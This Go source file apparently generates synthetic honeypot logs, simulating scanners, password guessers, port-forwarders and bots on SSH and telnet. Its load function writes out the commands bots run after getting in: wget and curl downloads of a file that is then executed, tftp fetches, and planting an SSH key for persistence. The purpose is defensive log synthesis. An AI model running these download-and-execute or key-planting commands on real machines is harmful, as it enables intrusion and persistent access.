package synth

import "strconv"

// kind is what a visitor comes for.
type kind uint8

const (
	bare   kind = iota // connects and leaves
	scan               // tells its version
	probe              // exchanges keys
	brute              // guesses passwords
	bot                // gets in, runs commands, brings files
	tunnel             // wants to be forwarded
	enter              // gets in and leaves
	telnet             // any of these, by telnet
)

// kinds are the visitors and how many of them there are among 7,400, which
// with play's numbers gives the mix of events of real logs.
var kinds = [...]struct {
	kind kind
	of   int
}{{scan, 2995}, {brute, 1450}, {bot, 900}, {tunnel, 900}, {telnet, 500}, {probe, 350}, {enter, 155}, {bare, 150}}

func (s *sensor) kind() kind {
	n := s.rng.IntN(7400)
	for _, k := range kinds {
		if n -= k.of; n < 0 {
			return k.kind
		}
	}
	return scan
}

// play plays a whole session, from start. Due is how many sightings of files
// are missing until now.
func (v *visit) play(start int64, due int) {
	k := v.kind()
	if due > 8 {
		k = bot
	}
	v.meet(v.sessionID(), v.attacker(), 1024+v.rng.IntN(64000), k == telnet, start)
	v.connect()
	switch k {
	case bare:
	case telnet:
		v.playTelnet(due)
	default:
		v.playSSH(k, due)
	}
	if v.gone {
		return
	}
	v.wait(1_000, 3*second)
	v.close()
}

func (v *visit) playTelnet(due int) {
	v.wait(100_000, 5*second)
	v.guess(v.few(0.9))
	if !v.chance(250) {
		return
	}
	v.enter()
	opened := v.at
	v.routine()
	if due > 0 && v.chance(500) {
		v.wait(second, 5*second)
		v.transfer(v.file())
	}
	v.tty(opened)
}

func (v *visit) playSSH(k kind, due int) {
	v.wait(5_000, 400_000)
	v.version(v.banner(k))
	if k == probe || k > probe && v.chance(560) {
		v.wait(20_000, 300_000)
		v.kex(v.clients[v.rng.IntN(len(v.clients))])
	}
	switch k {
	case probe:
		if v.era == Era2026 && v.chance(190) {
			v.wait(20_000, 300_000)
			v.malformed(20+v.rng.IntN(60), 32+v.rng.IntN(128))
		}
	case brute:
		v.guess(1 + v.few(1.0))
	case bot:
		v.guess(v.few(0.4))
		v.enter()
		v.shell(due)
	case tunnel:
		v.enter()
		v.forward()
	case enter:
		v.enter()
	}
}

// shell is what a bot does once it is in, up to the end of the session and
// beyond.
func (v *visit) shell(due int) {
	opened := v.at
	if v.chance(960) {
		v.wait(5_000, 500_000)
		v.params(arches[v.rng.IntN(len(arches))])
	}
	if v.chance(40) {
		pair := variables[v.rng.IntN(len(variables))]
		v.variable(pair[0], pair[1])
	}
	if v.chance(640) {
		t := terminals[v.rng.IntN(len(terminals))]
		v.size(t[0], t[1])
	}
	if v.era == Era2018 && v.chance(280) {
		v.logOpen()
	}
	v.routine()

	n := 0
	if due > 0 {
		n = 1 + v.rng.IntN(min(due, 8+int(200*v.wanted)))
	}
	atEnd, late := v.bring(n)
	if v.chance(190) {
		v.lose()
	}
	v.tty(opened)
	for _, f := range atEnd {
		v.transfer(f)
	}
	v.wait(1_000, 8*second)
	v.close()
	for _, f := range late {
		v.wait(10_000, 4*second)
		v.transfer(f)
	}
}

// bring has n files come. It returns those that come only when the session
// ends, as what a redirection wrote does, and those that come after that.
func (v *visit) bring(n int) (atEnd, late []file) {
	for i := range n {
		f := v.file()
		if i == 0 || v.chance(60) {
			v.wait(200_000, 3*second)
			v.command(load(f))
		}
		switch {
		case f.way == byRedirect || f.way == byStdin:
			atEnd = append(atEnd, f)
			continue
		case f.way <= byTFTP && v.era == Era2026 && i == n-1 && v.chance(100):
			late = append(late, f)
			continue
		case f.way == bySCP && v.chance(200):
			v.scpLine("C0755 " + strconv.Itoa(1000+f.index%90_000) + " " + f.name)
		}
		v.wait(50_000, 4*second)
		v.transfer(f)
	}
	return atEnd, late
}

// load returns the command that brings a file.
func load(f file) string {
	switch f.way {
	case byWget:
		return "cd /tmp; wget " + f.url + " -O " + f.name + "; chmod 777 " + f.name + "; ./" + f.name
	case byCurl:
		return "cd /tmp && curl -s -O " + f.url + " && sh " + f.name
	case byFTP:
		return "ftpget " + f.url + " " + f.name
	case byTFTP:
		return "cd /var/run; tftp -g -r " + f.name + " " + f.url
	case byRedirect:
		return "mkdir -p ~/.ssh; echo 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABSYNTHETIC bot' > " + f.dest
	case byStdin:
		return "cat > /tmp/" + f.name + "; chmod +x /tmp/" + f.name
	case bySCP:
		return `scp -qt "` + f.dest + `"`
	}
	return "ls -la /tmp"
}

// lose is a transfer that brings nothing.
func (v *visit) lose() {
	f := v.file()
	if f.url == "" {
		f.way, f.url = byWget, "http://"+hostNames[f.index%len(hostNames)]+"/"+f.name
	}
	v.wait(second, 15*second)
	if v.era >= Era2024 && f.way <= byCurl && v.chance(250) {
		v.empty(f.url)
		return
	}
	v.failed(f)
}

func (v *visit) routine() {
	for _, c := range routines[v.rng.IntN(len(routines))] {
		if v.chance(12) {
			c = "echo " + hostile[v.rng.IntN(len(hostile))]
		}
		v.wait(20_000, 2*second)
		v.command(c)
		if v.era <= Era2020 && v.chance(200) {
			v.commandFound(c)
		}
	}
	if v.chance(380) {
		c := failing[v.rng.IntN(len(failing))]
		v.wait(20_000, 2*second)
		v.command(c)
		v.commandFailed(c)
	}
	if v.chance(500) {
		v.wait(100_000, 2*second)
		v.command("cat /proc/uptime 2>/dev/null | cut -d. -f1 # " + strconv.Itoa(v.rng.IntN(10_000)))
	}
}

// tty closes the recording of what was typed. Bots type the same again and
// again, so its hash is one of a few.
func (v *visit) tty(opened int64) {
	if v.chance(120) {
		return
	}
	n := v.rng.IntN(400)
	n = n * n / 400
	v.logClosed(v.files.typed(n), 7+n*5, opened)
}

func (v *visit) forward() {
	for i := range 1 + min(80, v.few(6.2)) {
		to := forwards[v.rng.IntN(len(forwards))]
		v.wait(100_000, 6*second)
		v.forwardRequest(to.host, to.port, 1024+v.rng.IntN(64000))
		if !v.chance(540) {
			continue
		}
		v.wait(5_000, 200_000)
		v.forwardData(to.host, to.port, i, v.request(to.port))
		if v.era >= Era2025 && to.port == 443 && v.chance(1) {
			v.forwardJA4(to.host, to.port, "t12d131100_0a1b2c3d4e5f_5f4e3d2c1b0a")
		}
	}
}

func (v *visit) guess(n int) {
	for range n {
		user, password := v.credentials()
		v.wait(300_000, 4*second)
		v.login(false, user, password)
	}
}

func (v *visit) enter() {
	user, password := v.credentials()
	v.wait(300_000, 3*second)
	v.login(true, user, password)
}
